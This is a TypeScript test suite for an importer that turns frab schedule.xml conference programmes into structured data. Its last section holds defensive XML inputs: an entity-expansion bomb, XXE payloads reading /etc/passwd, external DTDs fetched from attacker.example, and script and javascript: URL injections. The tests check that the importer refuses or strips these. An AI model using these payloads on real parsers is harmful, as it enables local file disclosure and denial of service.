import { expect } from '@open-wc/testing';
import { buildProgramme } from '../src/data/importers/build.js';
import { frabXmlDraft, isFrabXml } from '../src/data/importers/frab-xml.js';
import { Notes } from '../src/data/importers/notes.js';
import type { DraftOptions } from '../src/data/importers/options.js';
import { parseXml } from '../src/data/importers/xml.js';
import type { Panel, Programme } from '../src/data/types.js';
import { validateProgramme } from '../src/data/validate.js';

const FIXTURES = '/test/fixtures/interop';
type RealFile = 'frab-debconf23' | 'frab-fosdem2021' | 'frab-31c3' | 'other-europython2014';
const texts: Partial<Record<RealFile, string>> = {};

/** A real file's text, fetched once from the test server (copied unchanged from data/interop/). */
async function real(name: RealFile): Promise<string> {
  texts[name] ??= await (await fetch(`${FIXTURES}/${name}.xml`)).text();
  return texts[name];
}

interface RawEvent {
  id: string;
  title: string;
  room: string;
  date: string;
  start: string;
  duration: string;
  type: string;
  description: string;
  /** The `date` attribute of the `<day>` it is in. */
  day: string;
  persons: string[];
}

/**
 * What the raw file says, read with the browser's DOMParser and querySelector, independently of
 * the importer: every `<event>` anywhere, its own fields, the rooms and the people.
 */
function facts(xml: string) {
  const doc = new DOMParser().parseFromString(xml, 'application/xml');
  expect(doc.querySelector('parsererror')).to.equal(null);
  const own = (el: Element, name: string) => el.querySelector(`:scope > ${name}`)?.textContent?.trim() ?? '';
  const events: RawEvent[] = [...doc.querySelectorAll('event')].map((ev) => ({
    id: ev.getAttribute('guid') ?? ev.getAttribute('id') ?? '',
    title: own(ev, 'title'),
    room: own(ev, 'room'),
    date: own(ev, 'date'),
    start: own(ev, 'start'),
    duration: own(ev, 'duration'),
    type: own(ev, 'type'),
    description: own(ev, 'description'),
    day: ev.closest('day')?.getAttribute('date') ?? '',
    persons: [...ev.querySelectorAll('persons > person')].map((p) => p.textContent!.trim()),
  }));
  return {
    events,
    rooms: new Set(events.map((e) => e.room)),
    people: new Set(events.flatMap((e) => e.persons)),
    emptyRoomBlocks: [...doc.querySelectorAll('day > room')].filter((r) => !r.querySelector('event')).length,
  };
}

/** Parses, drafts and builds; checks the programme validates; returns it with the notes. */
function imported(xml: string, options: DraftOptions = {}) {
  const doc = parseXml(xml);
  expect(isFrabXml(doc), 'isFrabXml').to.equal(true);
  const notes = new Notes();
  const programme = buildProgramme(frabXmlDraft(doc, notes, options), notes, options);
  const validation = validateProgramme(programme);
  expect(validation.problems, 'the imported programme validates').to.deep.equal([]);
  return { programme, notes: notes.list(), skipped: notes.skipped() };
}

const minutes = (hhmm: string) => {
  const [h, m, s = 0] = hhmm.split(':').map(Number);
  return h * 60 + m + s / 60;
};
const lengthOf = (p: Panel) => (Date.parse(p.sessions![0].end) - Date.parse(p.sessions![0].start)) / 60_000;

/** The wall clock of an instant in a zone: "HH:MM" and "YYYY-MM-DD". */
const clockIn = (instant: string, timeZone: string) =>
  new Intl.DateTimeFormat('en-GB', { timeZone, hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).format(new Date(instant));
const dateIn = (instant: string, timeZone: string) => new Intl.DateTimeFormat('en-CA', { timeZone }).format(new Date(instant));

const byId = (p: Programme) => new Map(p.panels.map((x) => [x.id, x]));
const byTitle = (p: Programme, title: string): Panel => {
  const panel = p.panels.find((x) => x.title === title);
  if (!panel) throw new Error(`no panel called ${title}`);
  return panel;
};
const people = (p: Programme) => new Set(p.panels.flatMap((x) => (x.convenors ?? []).map((c) => c.name)));

/** Every raw event has a panel with its id, room, duration and people, and the counts agree. */
function expectEveryEvent(programme: Programme, raw: ReturnType<typeof facts>) {
  expect(programme.panels).to.have.length(raw.events.length);
  expect(programme.panels.every((p) => p.sessions?.length === 1)).to.equal(true);
  const panels = byId(programme);
  for (const ev of raw.events) {
    const panel = panels.get(ev.id);
    expect(panel, ev.id).not.to.equal(undefined);
    expect(panel!.location, ev.title).to.equal(ev.room);
    expect(lengthOf(panel!), ev.title).to.equal(minutes(ev.duration));
    expect((panel!.convenors ?? []).map((c) => c.name)).to.deep.equal([...new Set(ev.persons)]);
  }
  expect(new Set(programme.panels.map((p) => p.location))).to.deep.equal(raw.rooms);
  expect(people(programme)).to.deep.equal(raw.people);
}

describe('frab schedule.xml: the real files', () => {
  it('frab-debconf23.xml (wafer): Asia/Kolkata, every <date> in UTC while <start> is local; the instants are kept', async () => {
    const xml = await real('frab-debconf23');
    const raw = facts(xml);
    expect(raw.events).to.have.length(117);
    expect(raw.rooms.size).to.equal(5);
    expect(raw.emptyRoomBlocks).to.equal(2);
    const { programme, notes, skipped } = imported(xml);
    expectEveryEvent(programme, raw);
    expect(notes).to.deep.equal([]);
    expect(skipped).to.deep.equal([]);
    expect(programme.conference).to.deep.equal({ id: 'debconf23', title: 'DebConf 23', timeZone: 'Asia/Kolkata', url: 'https://debconf23.debconf.org/' });

    const panels = byId(programme);
    for (const ev of raw.events) {
      const { start } = panels.get(ev.id)!.sessions![0];
      // The same instant as the file's <date> (not shifted by 5:30 a second time), written at India's offset…
      expect(Date.parse(start), ev.title).to.equal(Date.parse(ev.date));
      expect(ev.date.endsWith('+00:00')).to.equal(true);
      expect(start.endsWith('+05:30'), start).to.equal(true);
      // …where the clock reads the file's local <start>.
      expect(clockIn(start, 'Asia/Kolkata'), ev.title).to.equal(ev.start);
    }

    // <day date="2023-09-09"> holds 10 September's local events.
    expect(byTitle(programme, 'Opening Ceremony')).to.deep.include({
      id: '455d075f-48c0-2ec2-24b3-f5add30c383a',
      format: 'Long talk (45 minutes)',
      theme: 'Community, diversity, local outreach and social context',
      location: 'Anamudi',
      description: 'Welcome to DebConf23',
      url: 'https://debconf23.debconf.org/talks/18-opening-ceremony/',
      convenors: [{ name: 'Sruthi Chandran' }],
      sessions: [{ id: '455d075f-48c0-2ec2-24b3-f5add30c383a-1', start: '2023-09-10T10:30:00+05:30', end: '2023-09-10T10:50:00+05:30' }],
    });
    // An empty <type/> gives no format rather than an empty one.
    const untyped = raw.events.filter((e) => e.type === '').length;
    expect(untyped).to.equal(32);
    expect(programme.panels.filter((p) => p.format === undefined)).to.have.length(untyped);
  });

  it('frab-fosdem2021.xml (pentabarf): no zone anywhere, so it is refused unless the host names one', async () => {
    const xml = await real('frab-fosdem2021');
    const raw = facts(xml);
    expect(raw.events).to.have.length(773);
    expect(raw.emptyRoomBlocks).to.equal(87);
    expect(raw.events.every((e) => e.date === '')).to.equal(true);

    expect(() => imported(xml)).to.throw(/does not say its time zone \(no time_zone_name\).*time-zone="Area\/City"/);

    const { programme, notes, skipped } = imported(xml, { timeZone: 'Europe/Brussels' });
    expectEveryEvent(programme, raw);
    expect(skipped).to.deep.equal([]);
    expect(programme.conference).to.deep.equal({ id: 'fosdem-2021', title: 'FOSDEM 2021', timeZone: 'Europe/Brussels' });
    expect(notes.join('\n')).to.contain('no conference acronym').and.contain('773 events have a start time without an offset, read as Europe/Brussels time');

    // Brussels is at +01:00 in February.
    expect(byTitle(programme, 'Welcome to FOSDEM 2021')).to.deep.include({
      id: '11795',
      theme: 'FOSDEM',
      location: 'K.fosdem',
      description: 'FOSDEM welcome and opening talk.\n\nWelcome to FOSDEM 2021!',
      sessions: [{ id: '11795-1', start: '2021-02-06T09:00:00+01:00', end: '2021-02-06T09:25:00+01:00' }],
    });
    // Every event is on its day's date (day_change 00:00), at its <start> on Brussels clocks.
    const panels = byId(programme);
    for (const ev of raw.events) {
      const { start } = panels.get(ev.id)!.sessions![0];
      expect(start.endsWith('+01:00')).to.equal(true);
      expect(clockIn(start, 'Europe/Brussels'), ev.title).to.equal(ev.start);
      expect(dateIn(start, 'Europe/Brussels'), ev.title).to.equal(ev.day);
    }
    // Its abstracts and descriptions are escaped HTML: no markup is left (code such as `Option<string>` may stay).
    expect(raw.events.filter((e) => e.description.includes('<p>')).length).to.be.greaterThan(200);
    const markup = /<\/?(?:p|a|br|ul|ol|li|em|strong|b|i|code|pre|div|span|h[1-6])(?:\s[^<>]*)?\/?>|&(?:lt|gt|amp|quot|nbsp|#\d+);/i;
    expect(programme.panels.filter((p) => markup.test(p.description ?? '')).map((p) => p.title)).to.deep.equal([]);
  });

  it('frab-31c3.xml (frab 2014): single quotes, offsets but no time_zone_name, days that end at 04:00', async () => {
    const xml = await real('frab-31c3');
    const raw = facts(xml);
    expect(raw.events).to.have.length(138);
    const { programme, notes, skipped } = imported(xml);
    expectEveryEvent(programme, raw);
    expect(skipped).to.deep.equal([]);
    // No zone named: build picks the fixed zone of the +01:00 offsets and says so.
    expect(programme.conference).to.deep.equal({ id: '31c3', title: '31. Chaos Communication Congress', timeZone: 'Etc/GMT-1' });
    expect(notes).to.have.length(1);
    expect(notes[0]).to.contain('names no time zone').and.contain('Etc/GMT-1');

    const panels = byId(programme);
    for (const ev of raw.events) expect(panels.get(ev.id)!.sessions![0].start, ev.title).to.equal(ev.date);
    // Events after midnight of their conference day keep their real date.
    const late = raw.events.filter((e) => e.date.slice(0, 10) !== e.day);
    expect(late.length).to.be.greaterThan(0);
    for (const ev of late) expect(panels.get(ev.id)!.sessions![0].start.slice(0, 10)).to.equal(ev.date.slice(0, 10));

    expect(byTitle(programme, '31C3 Keynote')).to.deep.include({
      id: '8c4e647f-813e-41ef-b05b-65469dd841c3',
      format: 'Lecture',
      theme: 'CCC',
      location: 'Saal 1',
      // Its subtitle is also its whole description: said once, not twice.
      description: 'A New Dawn\n\nThe 31C3 Keynote',
      convenors: [{ name: 'alecempire' }],
      sessions: [{ id: '8c4e647f-813e-41ef-b05b-65469dd841c3-1', start: '2014-12-27T11:30:00+01:00', end: '2014-12-27T12:30:00+01:00' }],
    });
    expect(byTitle(programme, '„Wir beteiligen uns aktiv an den Diskussionen“').theme).to.equal('Ethics, Society & Politics');
    // Two languages (en, de): no single locale.
    expect(programme.conference.locale).to.equal(undefined);
  });

  it("other-europython2014.xml: EuroPython's own <schedule><day><entry> is not frab", async () => {
    const doc = parseXml(await real('other-europython2014'));
    expect(doc.documentElement.nodeName).to.equal('schedule');
    expect(isFrabXml(doc)).to.equal(false);
    expect(() => frabXmlDraft(doc, new Notes(), {})).to.throw(/not a frab schedule\.xml: its <day> elements hold <entry> elements/);
  });
});

/** A small frab schedule.xml around the given `<event>` bodies, all in one room of one day. */
function schedule(events: string[], { conference = '', day = 'date="2019-08-21" start="2019-08-21T10:00:00+02:00" end="2019-08-22T04:00:00+02:00"' } = {}) {
  const body = events.map((e, i) => `<event guid="g${i}" id="${i + 1}">${e}</event>`).join('\n');
  return `<?xml version="1.0" encoding="UTF-8"?>
<schedule>
  <conference><acronym>test</acronym><title>Test</title>${conference}</conference>
  <day index="1" ${day}>
    <room name="Hall A">
${body}
    </room>
  </day>
</schedule>`;
}

const BERLIN = '<time_zone_name>Europe/Berlin</time_zone_name>';

describe('frab schedule.xml: fields and times', () => {
  it('an event without <date> takes its day; a start before the day starts is on the next calendar day', () => {
    const { programme } = imported(
      schedule(['<start>01:30</start><duration>00:45</duration><title>Late</title>', '<start>23:30</start><duration>01:00</duration><title>Night</title>'], {
        conference: BERLIN,
      }),
    );
    expect(programme.panels[0].sessions![0]).to.deep.include({ start: '2019-08-22T01:30:00+02:00', end: '2019-08-22T02:15:00+02:00' });
    expect(programme.panels[1].sessions![0]).to.deep.include({ start: '2019-08-21T23:30:00+02:00', end: '2019-08-22T00:30:00+02:00' });
  });

  it("without a day start, pentabarf's day_change decides which calendar day an early start is on", () => {
    const { programme } = imported(
      schedule(['<start>05:00</start><duration>0:30:00</duration>', '<start>07:00</start><duration>00:30</duration>'], {
        conference: `${BERLIN}<day_change>06:00:00</day_change>`,
        day: 'date="2019-08-21"',
      }),
    );
    expect(programme.panels.map((p) => p.sessions![0].start)).to.deep.equal(['2019-08-22T05:00:00+02:00', '2019-08-21T07:00:00+02:00']);
    expect(programme.panels.map(lengthOf)).to.deep.equal([30, 30]);
  });

  it('a <date> in UTC with a local <start> keeps its instant and shows in the named zone; a <date> that disagrees wins, with a note', () => {
    const { programme, notes } = imported(
      schedule(
        [
          '<date>2023-09-10T05:00:00+00:00</date><start>10:30</start><duration>00:20</duration><title>Local</title>',
          '<date>2023-09-10T06:00:00+05:30</date><start>09:00</start><duration>00:20</duration><title>Odd</title>',
        ],
        { conference: '<time_zone_name>Asia/Kolkata</time_zone_name>', day: 'date="2023-09-09" start="2023-09-09T21:30:00+00:00"' },
      ),
    );
    expect(programme.conference.timeZone).to.equal('Asia/Kolkata');
    expect(programme.panels[0].sessions![0]).to.deep.include({ start: '2023-09-10T10:30:00+05:30', end: '2023-09-10T10:50:00+05:30' });
    expect(programme.panels[1].sessions![0].start).to.equal('2023-09-10T06:00:00+05:30');
    expect(notes).to.have.length(1);
    expect(notes[0]).to.contain('1 event has a <start> that its <date> does not read; the <date> was taken').and.contain('Odd');
  });

  it('without <date>, a day start in UTC is read on the named zone’s clock (wafer)', () => {
    const { programme } = imported(
      schedule(['<start>02:00</start><duration>00:20</duration>', '<start>10:30</start><duration>00:20</duration>'], {
        conference: '<time_zone_name>Asia/Kolkata</time_zone_name>',
        day: 'date="2023-09-09" start="2023-09-09T21:30:00+00:00"',
      }),
    );
    // The day runs from 03:00 on 10 September, India time, to 03:00 on the 11th.
    expect(programme.panels.map((p) => p.sessions![0].start)).to.deep.equal(['2023-09-11T02:00:00+05:30', '2023-09-10T10:30:00+05:30']);
  });

  it('maps title, subtitle, track, type, language, persons and url; links, slugs and recordings are not read', () => {
    const { programme } = imported(
      schedule(
        [
          `<date>2019-08-21T11:00:00+02:00</date><start>11:00</start><duration>00:45</duration><room>Hall A</room>
           <title>Main</title><subtitle>and more</subtitle><track>Security</track><type>lightning_talk</type><language>de</language>
           <abstract>Short.</abstract><description>Longer.</description><url>/talks/1/</url><slug>main</slug>
           <recording><license>cc</license><optout>false</optout></recording>
           <persons><person id="1"> Ada </person><person id="2">Bo</person><person id="3">Ada</person></persons>
           <links><link href="https://video.example/1.mp4">Video</link></links>`,
          '<date>2019-08-21T12:00:00+02:00</date><duration>00:30</duration><title>Cut:</title><subtitle>completed</subtitle><url>javascript:alert(1)</url>',
        ],
        { conference: `${BERLIN}<base_url>https://conf.example/2019/</base_url>` },
      ),
    );
    expect(programme.conference).to.deep.equal({ id: 'test', title: 'Test', timeZone: 'Europe/Berlin', locale: 'de', url: 'https://conf.example/2019/' });
    expect(programme.panels[0]).to.deep.equal({
      id: 'g0',
      title: 'Main',
      format: 'Lightning talk',
      theme: 'Security',
      location: 'Hall A',
      description: 'and more\n\nShort.\n\nLonger.',
      url: 'https://conf.example/talks/1/',
      convenors: [{ name: 'Ada' }, { name: 'Bo' }],
      sessions: [{ id: 'g0-1', start: '2019-08-21T11:00:00+02:00', end: '2019-08-21T11:45:00+02:00' }],
    });
    expect(programme.panels[1]).to.deep.include({ title: 'Cut: completed', location: 'Hall A' });
    expect(programme.panels[1].url).to.equal(undefined);
  });

  it('an event whose start cannot be read is listed without a session and reported with its path', () => {
    const { programme, skipped, notes } = imported(
      schedule(['<date>2019-08-21T11:00:00+02:00</date><duration>00:45</duration><title>Fine</title>', '<start>later</start><title>When?</title>'], {
        conference: BERLIN,
      }),
    );
    expect(programme.panels[1]).to.deep.equal({ id: 'g1', title: 'When?', location: 'Hall A' });
    expect(skipped).to.have.length(1);
    expect(skipped[0]).to.deep.include({ path: 'schedule.day[0].room["Hall A"].event[1]', kind: 'event', id: 'g1' });
    expect(skipped[0].problems[0].message).to.contain('"When?"').and.contain('later');
    expect(notes.join(' ')).to.contain('1 event has no start time that can be read');
  });

  it('HTML in a description, escaped or in CDATA, becomes text', () => {
    const { programme } = imported(
      schedule(
        [
          '<date>2019-08-21T11:00:00+02:00</date><title>A</title><description>&lt;p&gt;Hello &amp;amp; &lt;b&gt;welcome&lt;/b&gt;&lt;/p&gt;&lt;p&gt;See &lt;a href="https://x.org/"&gt;this&lt;/a&gt;&lt;/p&gt;</description>',
          '<date>2019-08-21T12:00:00+02:00</date><title>B</title><description><![CDATA[<ul><li>one</li><li>two</li></ul><script>alert(1)</script>]]></description>',
        ],
        { conference: BERLIN },
      ),
    );
    expect(programme.panels[0].description).to.equal('Hello & welcome\n\nSee this (https://x.org/)');
    expect(programme.panels[1].description).to.equal('- one\n- two');
  });
});

/** How long `f` takes to throw, and what it throws. */
function timedThrow(f: () => unknown): { ms: number; message: string } {
  const t0 = performance.now();
  try {
    f();
  } catch (e) {
    return { ms: performance.now() - t0, message: (e as Error).message };
  }
  throw new Error('it did not throw');
}

describe('frab schedule.xml: hostile and broken documents', () => {
  const lols = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`)].join('\n');
  const bomb = `<?xml version="1.0"?>\n<!DOCTYPE schedule [\n${lols}\n]>\n<schedule><conference><title>&lol9;</title></conference></schedule>`;

  it('refuses a billion-laughs entity bomb within 100 ms, before parsing', () => {
    const { ms, message } = timedThrow(() => parseXml(bomb));
    expect(ms).to.be.lessThan(100);
    expect(message).to.contain('declares entities in its DOCTYPE');
  });

  it('refuses external entities and external DTDs within 100 ms; nothing is fetched', () => {
    const docs = [
      '<?xml version="1.0"?><!DOCTYPE schedule [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><schedule>&xxe;</schedule>',
      '<!-- a comment first --><!DOCTYPE schedule [ <!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p; ]><schedule/>',
      '<!DOCTYPE schedule PUBLIC "-//X//DTD X//EN" "http://attacker.example/x.dtd"><schedule/>',
      '<!DOCTYPE schedule SYSTEM "http://attacker.example/x.dtd"><schedule/>',
      // A processing instruction or a quoted "]>" inside the internal subset does not end the DOCTYPE early.
      '<!DOCTYPE schedule [ <?pi ]> ?> <!ATTLIST schedule x CDATA "]>"> <!ENTITY a "b"> ]><schedule>&a;</schedule>',
    ];
    const messages = docs.map((d) => {
      const { ms, message } = timedThrow(() => parseXml(d));
      expect(ms).to.be.lessThan(100);
      return message;
    });
    expect(messages[0]).to.contain('declares entities');
    expect(messages[1]).to.contain('declares entities');
    expect(messages[2]).to.contain('external DTD');
    expect(messages[3]).to.contain('external DTD');
    expect(messages[4]).to.contain('declares entities');
  });

  it('accepts a plain DOCTYPE, and entity declarations written as text in a CDATA section or a comment', () => {
    const doc = parseXml(
      '<?xml version="1.0"?>\n<!DOCTYPE schedule>\n<!-- <!DOCTYPE x [<!ENTITY a "b">]> -->\n<schedule><description><![CDATA[<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>]]></description></schedule>',
    );
    expect(doc.getElementsByTagName('description')[0].textContent).to.equal('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
  });

  it('says a truncated document is not well-formed, with the line and column', async () => {
    const xml = await real('frab-31c3');
    const cut = xml.slice(0, Math.floor(xml.length / 2));
    const lines = cut.split('\n').length;
    const { message } = timedThrow(() => parseXml(cut));
    expect(message).to.match(/^This document is not well-formed XML \(line \d+, column \d+\)/);
    const line = Number(/line (\d+)/.exec(message)![1]);
    expect(line).to.be.within(lines - 1, lines + 1);
  });

  it('says other broken XML is not well-formed: mismatched tags, HTML entities, nothing at all', () => {
    for (const broken of ['<schedule><day></schedule>', '<schedule>&nbsp;</schedule>', '', 'not xml', '<a/><b/>']) {
      expect(() => parseXml(broken), JSON.stringify(broken)).to.throw(/^This document is not well-formed XML/);
    }
    expect(() => parseXml('<schedule>\n  <day>\n</schedule>')).to.throw(/line [23]/);
  });

  it('refuses a document that is not a schedule when asked to read it as one', () => {
    const doc = parseXml('<html><body/></html>');
    expect(isFrabXml(doc)).to.equal(false);
    expect(() => frabXmlDraft(doc, new Notes(), {})).to.throw(/not a frab schedule\.xml: its root element is <html>/);
  });
});
